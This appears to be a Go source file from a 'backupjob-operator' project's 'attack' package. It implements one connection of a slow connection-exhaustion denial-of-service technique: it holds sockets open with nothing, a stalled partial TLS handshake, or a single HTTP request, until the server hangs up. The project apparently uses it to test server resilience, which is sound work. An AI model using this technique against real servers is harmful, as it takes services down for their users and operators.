// Copyright 2026 The backupjob-operator authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"io"
	"math/rand/v2"
	"net/http"
	"time"
)

// connection opens one and does as little with it as it can: nothing, half a
// handshake, or one request, which buys the most time. It ends when the server
// hangs up, and the next one comes a second after it at the earliest: the
// attack is that there are many, not that they come fast.
func connection(ctx context.Context, t Target) error {
	next := time.After(time.Second)
	defer func() {
		select {
		case <-next:
		case <-ctx.Done():
		}
	}()
	conn, err := t.connect(ctx)
	if err != nil {
		return err
	}
	switch rand.IntN(4) { //nolint:gosec // any order will do
	case 0:
	case 1:
		if _, err := conn.Write([]byte{0x16, 3, 1, 2, 0, 1, 0}); err != nil { // a handshake of 512 bytes begins
			return nil //nolint:nilerr // it was hung up on
		}
	default:
		secure, err := t.handshake(ctx, conn)
		if err != nil {
			return nil //nolint:nilerr // it was hung up on
		}
		conn = secure
		if _, err := io.WriteString(conn, http.MethodGet+" / HTTP/1.1\r\nHost: x\r\n\r\n"); err != nil {
			return nil //nolint:nilerr // it was hung up on
		}
	}
	_, _ = io.Copy(io.Discard, conn)
	return nil
}
